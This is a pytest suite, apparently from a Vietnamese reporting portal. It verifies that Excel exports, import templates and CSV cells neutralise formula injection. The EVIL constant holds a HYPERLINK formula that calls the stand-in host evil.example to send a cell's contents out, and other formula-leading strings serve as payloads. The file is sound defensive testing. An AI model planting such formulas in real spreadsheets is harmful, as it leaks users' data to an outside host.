"""Files out: no export or template the portal writes turns user text into a formula."""

from __future__ import annotations

import dataclasses
import io
import pathlib
import re
from functools import partial

import pytest
from openpyxl import Workbook, load_workbook

from core.excel import FORMULA_STARTS, csv_cell, keep_text, write_list_sheet
from core.exports import _REGISTRY, get_spec
from indicators.excel import assessment_sheet_xlsx, ranking_rows, ranking_xlsx
from indicators.models import Criterion
from indicators.services.frameworks import framework_export
from organizations.models import OrgUnit
from organizations.templates_xlsx import unit_import_template
from tasks.services.imports import template_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
DANGEROUS = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]


def assert_no_formula(content: bytes) -> list[str]:
    """Every cell of every sheet is a value, never a formula; returns the texts seen."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


class Poison(str):
    """A row whose every attribute, item and text is a formula: whatever a column reads.

    It is a string (so joins and formatting work on it) and iterates as one poisoned item, so a
    column that walks a relation (", ".join(a.code for a in row.areas.all())) ends.
    """

    def __new__(cls):
        return super().__new__(cls, EVIL)

    def __iter__(self):
        return iter([Poison()])

    def __getattr__(self, name):
        return Poison()

    def __getitem__(self, key):
        return Poison()

    def get(self, key, default=None):
        return Poison()

    def __call__(self, *args, **kwargs):
        return Poison()

    def _poison(self, *args):
        return Poison()

    # columns that compute (a percent from two counts) get poison back, not a TypeError
    __truediv__ = __rtruediv__ = __floordiv__ = __sub__ = __rsub__ = _poison
    __mul__ = __rmul__ = __round__ = _poison


def _tolerant(columns):
    """Numeric columns cannot compute on poisoned text (Decimal("=...")): they get the poison
    itself, which is exactly the text the sheet must keep inert."""

    def value(column, row):
        try:
            return column.get(row)
        except (TypeError, ValueError, ArithmeticError):
            return EVIL

    return [dataclasses.replace(column, value=partial(value, column)) for column in columns]


def test_every_registered_export_keeps_formula_text_as_text():
    get_spec("units")  # discovers every app's exports.py
    assert _REGISTRY, "no export is registered"
    for spec in _REGISTRY.values():
        workbook = Workbook(write_only=True)
        write_list_sheet(workbook, spec.title, _tolerant(spec.columns), [Poison(), Poison()])
        buffer = io.BytesIO()
        workbook.save(buffer)
        texts = assert_no_formula(buffer.getvalue())
        assert EVIL in texts, spec.key


def test_registered_export_through_the_page_keeps_text(client_for, home_affairs, province):
    OrgUnit.objects.filter(pk=province.pk).update(name=EVIL, code="=1+1")
    response = client_for(home_affairs).get("/bao-cao/xuat-excel/units/")
    texts = assert_no_formula(response.content)
    assert EVIL in texts and "=1+1" in texts


def test_task_import_template_lists_unit_names_as_text(province):
    OrgUnit.objects.filter(pk=province.pk).update(name=EVIL)
    assert EVIL in assert_no_formula(template_workbook())


def test_unit_import_template_has_no_formula(db):
    assert_no_formula(unit_import_template())


def test_framework_export_keeps_names_and_notes_as_text(framework):
    Criterion.objects.filter(framework=framework).update(name=EVIL, note="=1+1")
    texts = assert_no_formula(framework_export(framework=framework))
    assert EVIL in texts and "=1+1" in texts


def test_assessment_sheet_and_ranking_keep_unit_names_as_text(opened, unit_a, home_affairs):
    from indicators.selectors import assessment_ranking, assessments_unranked

    OrgUnit.objects.filter(pk=unit_a.pk).update(name=EVIL)
    assessment = opened[unit_a.code]
    assessment.refresh_from_db()
    assessment.unit.refresh_from_db()
    assert EVIL in assert_no_formula(assessment_sheet_xlsx(assessment))
    framework = assessment.framework
    # the unit's draft is not ranked: the file lists it after the ranked units
    rows = ranking_rows(assessment_ranking(user=home_affairs, framework=framework))
    rows += ranking_rows(assessments_unranked(user=home_affairs, framework=framework))
    assert EVIL in assert_no_formula(ranking_xlsx(rows, title="=1+1"))


def test_keep_text_turns_formula_cells_back_into_text():
    workbook = Workbook()
    workbook.active.append(DANGEROUS)
    keep_text(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert assert_no_formula(buffer.getvalue()) == DANGEROUS


@pytest.mark.parametrize("text", DANGEROUS + ["\tcmd", "\r=1"])
def test_csv_cells_that_start_like_a_formula_are_prefixed(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell("Sở Nội vụ") == "Sở Nội vụ"
    assert csv_cell(None) == ""
    assert text.startswith(FORMULA_STARTS)


def test_every_csv_writer_in_the_code_goes_through_csv_cell():
    """The portal has no CSV export today; one added later must use core.excel.csv_cell."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        parts = set(path.relative_to(root).parts)
        if parts & {".venv", "tests", "var", "migrations", "node_modules"}:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text) and "csv_cell" not in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
